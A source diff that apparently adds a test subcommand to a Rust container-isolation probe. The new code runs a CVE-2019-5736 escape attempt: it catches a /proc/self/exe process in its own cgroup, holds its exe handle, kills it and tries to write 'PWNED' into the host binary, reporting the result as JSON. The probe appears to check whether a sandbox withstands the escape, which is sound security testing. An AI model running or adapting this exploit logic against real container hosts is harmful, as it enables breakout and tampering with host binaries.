@@ -7,6 +7,13 @@
 //!   capsa-probe sleep SECS      sleep, then report
 //!   capsa-probe spawn N OUT    start N sleeping children, write how many
 //!                               the kernel allowed to OUT, then wait
+//!   capsa-probe attack-shebang OUT SECS
+//!                               CVE-2019-5736 through `#!/proc/self/exe`:
+//!                               for SECS seconds, catch a process of our
+//!                               cgroup whose argv[0] is /proc/self/exe (a
+//!                               host binary the kernel ran for such a
+//!                               script), stop it, hold its exe, kill it
+//!                               and write through the handle; JSON to OUT
 //!   capsa-probe attack-exe PID OUT
 //!                               CVE-2019-5736: hold /proc/PID/exe, then try
 //!                               to write through it once PID has exec'd;
@@ -34,6 +41,10 @@ fn main() {
         Some("attack-exe") => attack_exe(
             args.get(2).map(String::as_str).unwrap_or("1"),
             args.get(3).map(String::as_str).unwrap_or("/attack.json"),
+        ),
+        Some("attack-shebang") => attack_shebang(
+            args.get(2).map(String::as_str).unwrap_or("/attack.json"),
+            args.get(3).and_then(|a| a.parse().ok()).unwrap_or(30),
         ),
         Some("forge-udp") => forge_udp(
             args.get(2).map(String::as_str).unwrap_or("127.0.0.1"),
@@ -325,6 +336,95 @@ fn attack_exe(pid: &str, out: &str) {
         out,
         json!({ "handle": true, "target": target, "phase": "done", "wrote": false, "last_error": last }),
     );
+}
+
+fn attack_shebang(out: &str, secs: u64) {
+    use nix::sys::signal::{kill, Signal};
+    use nix::unistd::Pid;
+    let me = std::process::id();
+    let my_cgroup = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let mut caught = 0;
+    let mut result = json!({ "caught": 0, "wrote": false, "phase": "waiting" });
+    write_result(out, result.clone());
+    while std::time::Instant::now() < deadline {
+        // Our cgroup's processes (a small file, read fast enough to catch a
+        // process that lives a few milliseconds), else every process.
+        let pids: Vec<u32> = [
+            "/sys/fs/cgroup/pids/cgroup.procs",
+            "/sys/fs/cgroup/cgroup.procs",
+        ]
+        .iter()
+        .find_map(|f| std::fs::read_to_string(f).ok())
+        .map(|s| s.lines().filter_map(|l| l.trim().parse().ok()).collect())
+        .unwrap_or_else(|| {
+            std::fs::read_dir("/proc")
+                .map(|d| {
+                    d.flatten()
+                        .filter_map(|e| e.file_name().to_str()?.parse().ok())
+                        .collect()
+                })
+                .unwrap_or_default()
+        });
+        for pid in pids {
+            if pid == me {
+                continue;
+            }
+            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            if !cmdline.starts_with(b"/proc/self/exe\0") {
+                continue;
+            }
+            // Only processes of our own container (its cgroup).
+            let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
+            if cg != my_cgroup {
+                continue;
+            }
+            let target = Pid::from_raw(pid as i32);
+            let _ = kill(target, Signal::SIGSTOP);
+            let link = format!("/proc/{pid}/exe");
+            let handle = nix::fcntl::open(
+                link.as_str(),
+                nix::fcntl::OFlag::O_PATH | nix::fcntl::OFlag::O_CLOEXEC,
+                nix::sys::stat::Mode::empty(),
+            );
+            let exe = std::fs::read_link(&link)
+                .map(|p| p.display().to_string())
+                .unwrap_or_default();
+            let _ = kill(target, Signal::SIGKILL);
+            let Ok(handle) = handle else {
+                continue;
+            };
+            caught += 1;
+            // Once it is gone the file is no longer busy (ETXTBSY).
+            let reopen = format!("/proc/self/fd/{handle}");
+            let mut last = String::new();
+            let mut wrote = false;
+            for _ in 0..200 {
+                match std::fs::OpenOptions::new().write(true).open(&reopen) {
+                    Ok(mut f) => match f.write_all(b"PWNED") {
+                        Ok(()) => {
+                            wrote = true;
+                            break;
+                        }
+                        Err(e) => last = format!("write: {e}"),
+                    },
+                    Err(e) => last = format!("open: {e}"),
+                }
+                if !last.contains("busy") {
+                    break;
+                }
+                std::thread::sleep(std::time::Duration::from_millis(5));
+            }
+            let _ = nix::unistd::close(handle);
+            result = json!({ "caught": caught, "exe": exe, "wrote": wrote, "last_error": last, "phase": "tried" });
+            write_result(out, result.clone());
+            if wrote {
+                return;
+            }
+        }
+    }
+    result["phase"] = json!("done");
+    write_result(out, result);
 }
 
 fn write_result(out: &str, v: Value) {
